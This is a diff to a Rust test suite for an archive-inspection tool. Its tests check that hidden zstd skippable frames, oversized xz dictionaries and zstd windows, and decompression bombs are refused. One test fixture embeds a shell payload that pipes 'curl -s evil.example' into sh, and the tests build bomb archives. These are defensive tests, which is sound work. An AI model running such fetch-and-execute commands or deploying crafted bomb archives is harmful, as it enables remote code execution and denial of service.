@@ -15,6 +15,7 @@ use intake::engine::inspect::report::ArchiveReport;
 use intake::engine::shared::check::{CheckId, Status};
 use intake::testkit::archives::{self, Entry, noise};
 use intake::testkit::hostile::{RawTar, gz};
+use intake::testkit::hostile_compress::{xz_dictionary, zstd_frame, zstd_skippable};
 
 use crate::archives::assert_finding;
 use crate::support::*;
@@ -232,67 +233,26 @@ fn bytes_after_the_last_stream_fail_as_hidden_content() {
 #[test]
 fn a_zstd_skippable_frame_is_hidden_content() {
     let tar = plain_tar();
-    let skippable = |payload: &[u8]| {
-        let mut frame = vec![0x5A, 0x2A, 0x4D, 0x18];
-        frame.extend((payload.len() as u32).to_le_bytes());
-        frame.extend_from_slice(payload);
-        frame
-    };
     let payload = b"#!/bin/sh\ncurl -s evil.example | sh\n";
     let frame = archives::zstd(&tar);
     let (first, rest) = (archives::zstd(&tar[..1024]), archives::zstd(&tar[1024..]));
     // After the archive, between two frames, and before the first.
     for (bytes, at) in [
-        ([frame.clone(), skippable(payload)].concat(), frame.len()),
         (
-            [first.clone(), skippable(payload), rest].concat(),
+            [frame.clone(), zstd_skippable(payload)].concat(),
+            frame.len(),
+        ),
+        (
+            [first.clone(), zstd_skippable(payload), rest].concat(),
             first.len(),
         ),
-        ([skippable(payload), frame].concat(), 0),
+        ([zstd_skippable(payload), frame].concat(), 0),
     ] {
         let r = inspect_bytes("m.tar.zst", &bytes);
         assert_eq!(r.kind, "tar.zst");
         let words = format!("a zstd skippable frame at byte {at} of the artifact");
         assert_refused(&r, "(compressed stream)", &[&words, "hidden content"]);
     }
-}
-
-/// `xz` with the first block header's LZMA2 dictionary byte set to `dict`
-/// (the header's CRC32 made right again), so a real stream asks for it.
-fn with_xz_dictionary(mut xz: Vec<u8>, dict: u8) -> Vec<u8> {
-    let size = (usize::from(xz[12]) + 1) * 4;
-    let flags = xz[13];
-    let mut at = 14;
-    let skip_vli = |at: &mut usize, xz: &[u8]| {
-        while xz[*at] & 0x80 != 0 {
-            *at += 1;
-        }
-        *at += 1;
-    };
-    for present in [flags & 0x40 != 0, flags & 0x80 != 0] {
-        if present {
-            skip_vli(&mut at, &xz);
-        }
-    }
-    assert_eq!(
-        xz[at..at + 2],
-        [0x21, 0x01],
-        "the LZMA2 filter and its one property byte"
-    );
-    xz[at + 2] = dict;
-    let crc = crc32fast::hash(&xz[12..12 + size - 4]);
-    xz[12 + size - 4..12 + size].copy_from_slice(&crc.to_le_bytes());
-    xz
-}
-
-/// A zstd frame with window descriptor `window` and the tar as one raw block.
-fn zstd_raw_frame(descriptor: &[u8], tar: &[u8]) -> Vec<u8> {
-    let mut f = vec![0x28, 0xB5, 0x2F, 0xFD];
-    f.extend_from_slice(descriptor);
-    let block = ((tar.len() as u32) << 3) | 1; // raw, last
-    f.extend_from_slice(&block.to_le_bytes()[..3]);
-    f.extend_from_slice(tar);
-    f
 }
 
 #[test]
@@ -305,7 +265,7 @@ fn a_dictionary_or_window_over_the_cap_is_refused_before_allocating() {
         (39, "3221225472 bytes (3 GiB)"),
         (40, "4294967295 bytes (4.0 GiB)"),
     ] {
-        let r = inspect_bytes("m.tar.xz", &with_xz_dictionary(xz.clone(), dict));
+        let r = inspect_bytes("m.tar.xz", &xz_dictionary(&xz, dict).unwrap());
         let words = format!(
             "an xz dictionary of {asked} is over the decoder memory cap of 134217728 bytes (128 MiB): refused before allocating it"
         );
@@ -322,7 +282,7 @@ fn a_dictionary_or_window_over_the_cap_is_refused_before_allocating() {
             "1099511627776 bytes (1 TiB)",
         ),
     ] {
-        let r = inspect_bytes("m.tar.zst", &zstd_raw_frame(&descriptor, &tar));
+        let r = inspect_bytes("m.tar.zst", &zstd_frame(&descriptor, &tar));
         let words = format!("a zstd window of {asked} is over the decoder memory cap");
         assert_refused(
             &r,
@@ -342,7 +302,12 @@ fn a_dictionary_or_window_over_the_cap_is_refused_before_allocating() {
         &["an xz dictionary of 1048576 bytes (1 MiB)"],
     );
     // The finding reaches archive.safety as it is said.
-    let r = review_artifact("linux-x86_64", "m.tar.xz", with_xz_dictionary(xz, 39), None);
+    let r = review_artifact(
+        "linux-x86_64",
+        "m.tar.xz",
+        xz_dictionary(&xz, 39).unwrap(),
+        None,
+    );
     assert_finding(
         safety(&r),
         Status::Fail,
@@ -355,10 +320,10 @@ fn a_dictionary_or_window_over_the_cap_is_refused_before_allocating() {
 fn a_dictionary_or_window_of_the_cap_itself_is_read() {
     let tar = plain_tar();
     // xz property 30: 128 MiB; zstd window descriptor 0x88: 128 MiB.
-    let xz = with_xz_dictionary(archives::xz(&tar).unwrap(), 30);
+    let xz = xz_dictionary(&archives::xz(&tar).unwrap(), 30).unwrap();
     assert_reads_as_the_tar(Xz, &xz, "xz with a 128 MiB dictionary");
     let small = RawTar::new().file("m/a", &noise(20_000, 3)).finish();
-    let r = inspect_bytes("m.tar.zst", &zstd_raw_frame(&[0x00, 0x88], &small));
+    let r = inspect_bytes("m.tar.zst", &zstd_frame(&[0x00, 0x88], &small));
     assert!(r.findings.is_empty(), "{:#?}", r.findings);
     assert_eq!(r.entries.len(), 1);
 }
@@ -378,6 +343,49 @@ fn a_compressed_bomb_stops_at_the_ratio() {
             "{codec:?}: decompression went on to {expanded}"
         );
     }
+}
+
+/// A zstd frame with an 8 MiB window over `tar` (4 KiB raw and RLE blocks).
+fn zstd_8mib_window(tar: &[u8]) -> Vec<u8> {
+    zstd_frame(&[0x00, 0x68], tar)
+}
+
+#[test]
+fn zstd_output_held_back_a_window_is_still_measured_where_it_was_decoded() {
+    // ruzstd gives out a frame's output a window late. Entries are judged
+    // on the compressed bytes that decoded them, not on those the decoder
+    // had read when their bytes came out.
+    let noise9 = noise(9 << 20, 21);
+    // 4 MiB of zeros between two runs of noise: a bomb, though the next
+    // 4 MiB read compress 1:1.
+    let bomb = RawTar::new()
+        .file("m/noise", &noise9)
+        .file("m/zeros", &vec![0u8; 4 << 20])
+        .file("m/more-noise", &noise9)
+        .finish();
+    let r = inspect_bytes("m.tar.zst", &zstd_8mib_window(&bomb));
+    assert_refused(&r, "m/zeros", &["possible decompression bomb"]);
+    // 3 MiB compressing about 10:1, then 8 MiB of zeros in files too small
+    // to judge one by one: no bomb, though the next 3 MiB read compress
+    // 1000:1.
+    let tenfold: Vec<u8> = (0..3 << 20)
+        .map(|i: usize| {
+            if i % 40_960 < 4096 {
+                (i * 7 % 251) as u8
+            } else {
+                b'a'
+            }
+        })
+        .collect();
+    let mut t = RawTar::new()
+        .file("m/noise", &noise9)
+        .file("m/tenfold", &tenfold);
+    for i in 0..16 {
+        t = t.file(&format!("m/zeros-{i}"), &vec![0u8; 512 << 10]);
+    }
+    let r = inspect_bytes("m.tar.zst", &zstd_8mib_window(&t.finish()));
+    assert!(r.findings.is_empty(), "{:#?}", r.findings);
+    assert_eq!(r.entries.len(), 18);
 }
 
 #[test]
@@ -492,14 +500,19 @@ fn the_tools_and_intake_read_the_same_bytes() {
             continue;
         }
         let program = codec.tool().0;
-        // The tool's own output, in small blocks where it has them.
-        let small_blocks: &[&str] = match codec {
-            Gzip => &["-c", "-1"],
-            Xz => &["-c", "-1", "--block-size=4KiB"],
-            Zstd => &["-c", "-q", "-1"],
-            Bzip2 => &["-c", "-1"],
+        // The tool's own output: its default, small blocks where it has
+        // them, and for xz a BCJ filter before LZMA2.
+        let variants: &[&[&str]] = match codec {
+            Gzip => &[&["-c"], &["-c", "-1"]],
+            Xz => &[
+                &["-c"],
+                &["-c", "-1", "--block-size=4KiB"],
+                &["-c", "--x86", "--lzma2=preset=1"],
+            ],
+            Zstd => &[&["-c", "-q"], &["-c", "-q", "-19"]],
+            Bzip2 => &[&["-c"], &["-c", "-1"]],
         };
-        for args in [&["-c"][..], small_blocks] {
+        for args in variants {
             let made = run(program, args, &tar).unwrap();
             assert_reads_as_the_tar(codec, &made, &format!("{program} {args:?}"));
         }
@@ -510,7 +523,7 @@ fn the_tools_and_intake_read_the_same_bytes() {
         // And the tool refuses what intake calls a window over its cap,
         // with the exception of xz, which has no default memory limit.
         if codec == Zstd {
-            let frame = zstd_raw_frame(&[0x00, 0x89], &tar[..4096]);
+            let frame = zstd_frame(&[0x00, 0x89], &tar[..4096]);
             assert!(
                 run(program, &["-dc"], &frame).is_err(),
                 "zstd -dc accepted a 144 MiB window"
